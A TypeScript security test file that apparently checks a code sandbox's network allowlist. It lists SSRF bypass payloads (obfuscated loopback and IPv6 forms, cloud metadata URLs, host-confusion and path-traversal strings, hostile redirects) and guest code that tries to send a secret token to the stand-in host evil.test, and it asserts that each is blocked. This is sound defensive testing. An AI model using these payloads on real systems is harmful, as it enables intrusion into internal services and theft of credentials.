import assert from "node:assert/strict";
import { nodeTransport } from "../../../src/hosts/node/http/node-transport.ts";
import { recordingTransport } from "../../support/network-ledger.ts";
import type { Attack } from "../harness/attack.ts";
import { outcomeOf } from "../harness/outcomes.ts";
import { ALLOWED, requestAttempt } from "./request-attempt.ts";

/** A policy as wide as it can be written without naming an address. */
const WIDE = { allow: ["http://*.example.com:PORT/", "http://*.nip.io:PORT/", "https://*.example.com/"] };

/** Addresses that no name may lead to, and things that are none. */
const SPECIAL_ADDRESSES = `10.0.0.1 172.16.0.1 192.168.0.1 100.64.0.1 169.254.1.1 0.0.0.0 224.0.0.1 255.255.255.255
198.18.0.1 192.0.2.1 240.0.0.1 ::1 :: fe80::1 fc00::1 ff02::1 ::ffff:10.0.0.1 64:ff9b::a00:1 2002:a00:1:: 2001:db8::1
0x7f000001 127.1 fe80::1%eth0 nothing`.split(/\s+/u);

const VARIANTS: Readonly<Record<string, Attack["attempt"]>> = {
  "every number that is 127.0.0.1": requestAttempt([
    "http://2130706433:PORT/",
    "http://017700000001:PORT/",
    "http://0x7F000001:PORT/",
    "http://0x7f.0.0.0x1:PORT/",
    "http://127.0.1:PORT/",
    "http://0177.1:PORT/",
    "http://127.000.000.001:PORT/",
    "http://127.0.0.1.:PORT/",
    "http://%31%32%37.0.0.1:PORT/",
    "http://\u2460\u2461\u2466.0.0.1:PORT/",
    "http://127.255.255.254:PORT/",
  ]),
  "every address that holds another": requestAttempt([
    "http://[::1]:PORT/",
    "http://[0:0:0:0:0:0:0:1]:PORT/",
    "http://[::ffff:7f00:1]:PORT/",
    "http://[::127.0.0.1]:PORT/",
    "http://[64:ff9b::7f00:1]:PORT/",
    "http://[2001:0:7f00:1::]:PORT/",
    "http://[fe80::1]:PORT/",
    "http://[fc00::1]:PORT/",
    "http://[::]:PORT/",
    "http://[::ffff:0:127.0.0.1]:PORT/",
  ]),
  "places that clouds and clusters have": requestAttempt([
    "http://169.254.169.254/latest/api/token",
    "http://[fd00:ec2::254]/",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://169.254.170.2/v2/credentials",
    "http://192.0.0.192/",
    "http://kubernetes.default.svc/",
    "http://host.docker.internal:PORT/",
    "http://metadata/",
  ]),
  "user names that look like hosts, hosts that look like user names": requestAttempt([
    "https://api.example.com@127.0.0.1:PORT/",
    "http://api.example.com:80@127.0.0.1:PORT/",
    "https://api.example.com%40127.0.0.1:PORT/",
    "http://127.0.0.1:PORT#@api.example.com/",
    "http://127.0.0.1:PORT?@api.example.com/",
    "http://127.0.0.1:PORT\\@api.example.com/",
    "https:/\\127.0.0.1:PORT/",
    "https:127.0.0.1:PORT",
    "///127.0.0.1:PORT/",
    "http://api.example.com\u0000@127.0.0.1:PORT/",
    "https://api.example.com\t@127.0.0.1:PORT/",
    "https://api.example.com\\.evil.test/",
  ]),
  "hosts that begin or end like the allowed one": requestAttempt([
    "https://api.example.com.evil.test/",
    "https://evil-api.example.com/",
    "https://xapi.example.com/",
    "https://api.example.comevil/",
    "https://api.example.co/",
    "https://api.example.com:8443/",
    "http://api.example.com/",
    "https://api.example.com:443@evil.test/",
    "https://ap\u0131.example.com/",
    "https://xn--api-.example.com/",
  ]),
  "loopback under a rule of any name": requestAttempt(
    ["http://localhost:PORT/", "http://x.localhost/", "http://127.0.0.1.nip.io:PORT/", "http://api.example.com:PORT/"],
    { network: WIDE, transport: nodeTransport({ resolve: async () => await Promise.resolve(["127.0.0.1"]) }) },
  ),
  "every kind of address that a name may have": requestAttempt(
    SPECIAL_ADDRESSES.map((_address, index) => `https://a${index}.example.com/`),
    {
      network: { allow: ["https://*.example.com/"] },
      transport: nodeTransport({
        resolve: async (host) => await Promise.resolve([SPECIAL_ADDRESSES[Number(/\d+/u.exec(host)?.[0])] ?? ""]),
      }),
    },
  ),
  "a resolver that gives nothing, or never": async (scene) => {
    await requestAttempt([ALLOWED], { transport: nodeTransport({ resolve: async () => await Promise.resolve([]) }) })(
      scene,
    );
    await requestAttempt([ALLOWED], {
      network: { allow: [ALLOWED], limits: { timeoutMs: 200 } },
      transport: nodeTransport({ resolve: async () => await new Promise(() => undefined) }),
    })(scene);
  },
  "redirects to every place": async (scene) => {
    for (const location of [
      "http://127.0.0.1/",
      "http://[::1]/",
      "//localhost/",
      "file:///etc/passwd",
      "data:text/plain,x",
      "https://api.example.com@evil.test/",
      "https://evil.test/",
      "http://api.example.com/",
      "\\\\evil.test\\",
      "https://api.example.com:22/",
      "javascript:1",
      "\u0000",
    ]) {
      const transport = recordingTransport(() => ({ status: 307, headers: [["location", location]] }));
      await requestAttempt([{ url: ALLOWED, headers: [["authorization", "Bearer x"]] }], { transport })(scene);
      for (const { url } of transport.requests) assert.equal(new URL(url).origin, "https://api.example.com");
    }
  },
  "redirects without end": async (scene) => {
    const transport = recordingTransport(() => ({ status: 302, headers: [["location", `${ALLOWED}again`]] }));
    await requestAttempt([ALLOWED], { transport })(scene);
    assert.ok(transport.requests.length <= 20);
  },
  "paths below the allowed one": async (scene) => {
    const transport = recordingTransport();
    const paths = [
      "/v1evil",
      "/v1/../admin",
      "/v1/%2e%2e/admin",
      "/v1/..%2fadmin",
      "/v1/..;/admin",
      "/v1\\..\\admin",
      "/v1/%252e%252e/admin",
      "/",
      "/V1/",
      "/v1/.%2E/admin",
      "/v1//../../admin",
    ];
    await requestAttempt(
      paths.map((name) => `https://api.example.com${name}`),
      { network: { allow: ["https://api.example.com/v1"] }, transport, check: () => undefined },
    )(scene);
    for (const { url } of transport.requests)
      assert.match(new URL(url).pathname, /^\/v1(\/|$)(?!.*(\.\.|%2e%2e))/iu, url);
  },
  "methods that nobody allowed": async (scene) => {
    const transport = recordingTransport();
    await requestAttempt(
      ["POST", "PUT", "DELETE", "CONNECT", "TRACE", "TRACK", "get\r\n", "GET /x HTTP/1.1\r\n"].map((method) => ({
        url: ALLOWED,
        method,
      })),
      { transport, check: () => undefined },
    )(scene);
    for (const { method } of transport.requests) assert.match(method, /^(GET|HEAD)$/u);
  },
  "a secret towards another host, in a URL, a body, and back": async (scene) => {
    const secret = scene.canaries.variable;
    const transport = recordingTransport((request) => ({
      body: [`you sent ${JSON.stringify(request.headers)}`],
      headers: [["x-echo", JSON.stringify(request.headers)]],
    }));
    for (const language of ["javascript", "python"] as const) {
      const sandbox = await scene.sandbox({
        language,
        network: {
          allow: [{ url: ALLOWED, methods: "*" }, "https://evil.test/"],
          secrets: { TOKEN: { value: secret, hosts: [ALLOWED] } },
        },
        transport,
      });
      const placeholder = "{{secret.TOKEN}}";
      const source =
        language === "javascript"
          ? `const said = []; for (const [url, init] of [["${ALLOWED}", { headers: { authorization: "${placeholder}" } }], ["https://evil.test/", { headers: { authorization: "${placeholder}" } }], ["${ALLOWED}?${placeholder}", {}], ["${ALLOWED}", { method: "POST", body: "${placeholder}" }]]) said.push(await fetch(url, init).then(async (r) => [await r.text(), ...r.headers], (e) => e.name)); said`
          : `from wardian import http\nsaid = []\nfor url, headers in (("${ALLOWED}", {"authorization": "${placeholder}"}), ("https://evil.test/", {"authorization": "x ${placeholder}"}), ("${ALLOWED}?${placeholder}", {})):\n  try:\n    r = await http.get(url, headers=headers); said.append([await r.text(), list(r.headers.items())])\n  except OSError as e: said.append(repr(e))\nsaid`;
      const result = await scene.run(sandbox, source);
      assert.equal(result.status, "ok", outcomeOf(result));
    }
    assert.ok(
      transport.requests.some(({ headers }) => JSON.stringify(headers).includes(secret)),
      "the secret went nowhere",
    );
    for (const { url, headers, body } of transport.requests) {
      assert.ok(!url.includes(secret));
      assert.ok(!new TextDecoder().decode(body).includes(secret));
      if (!url.startsWith(ALLOWED)) assert.ok(!JSON.stringify(headers).includes(secret), url);
    }
  },
  "answers without end": async (scene) => {
    const transport = recordingTransport(() => ({
      body: Array.from({ length: 1_000 }, () => new Uint8Array(2 ** 16)),
    }));
    const sandbox = await scene.sandbox({
      language: "javascript",
      network: { allow: [ALLOWED], limits: { bytesDown: 1e6 } },
      transport,
    });
    const result = await scene.run(
      sandbox,
      `await fetch("${ALLOWED}").then((r) => r.arrayBuffer()).then((b) => b.byteLength, (e) => e.name)`,
    );
    assert.match(outcomeOf(result), /^(ok "TypeError"|error|limit)/u);
    assert.ok(result.usage.networkBytes < 1.2e6, `${result.usage.networkBytes} bytes came down`);
  },
  "a guest that replaces its own prelude's parts": async (scene) => {
    const transport = recordingTransport();
    const sandbox = await scene.sandbox({ language: "javascript", network: { allow: [ALLOWED] }, transport });
    const result = await scene.run(
      sandbox,
      `URL = class { constructor(text) { this.href = text; this.username = this.password = ""; } };
Object.defineProperty(String.prototype, "toLowerCase", { value: () => "x-innocent" });
RegExp.prototype.test = () => true;
JSON.stringify = () => '{"url":"https://evil.test/"}';
const outcomes = [];
for (const url of ["https://evil.test/", "http://127.0.0.1/", "${ALLOWED} HTTP/1.1\\r\\nHost: evil.test"])
  outcomes.push(await fetch(url, { headers: { "Host": "evil.test" } }).then((r) => "status " + r.status, (e) => e.name));
outcomes`,
    );
    assert.match(outcomeOf(result), /^(ok|error)/u);
    assert.deepEqual(transport.requests, []);
  },
  "no network at all": async (scene) => {
    const transport = recordingTransport();
    for (const [language, source] of [
      [
        "javascript",
        `["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "Request"].filter((name) => name in globalThis).length`,
      ],
      [
        "python",
        `from wardian import http\nimport urllib.request, socket, ftplib, smtplib\nsaid = 0\nfor call in (lambda: urllib.request.urlopen("https://api.example.com/"), lambda: socket.create_connection(("api.example.com", 443)), lambda: ftplib.FTP("127.0.0.1"), lambda: smtplib.SMTP("127.0.0.1")):\n  try: call(); said += 1\n  except OSError: pass\ntry: await http.get("https://api.example.com/"); said += 1\nexcept OSError: pass\nsaid`,
      ],
    ] as const) {
      const sandbox = await scene.sandbox({ language, transport });
      assert.equal(outcomeOf(await scene.run(sandbox, source)), "ok 0");
    }
    assert.deepEqual(transport.requests, []);
  },
};

export const networkVariants: readonly Attack[] = Object.entries(VARIANTS).map(([title, attempt], index) => ({
  id: `D+${index + 1}`,
  title,
  attempt,
}));
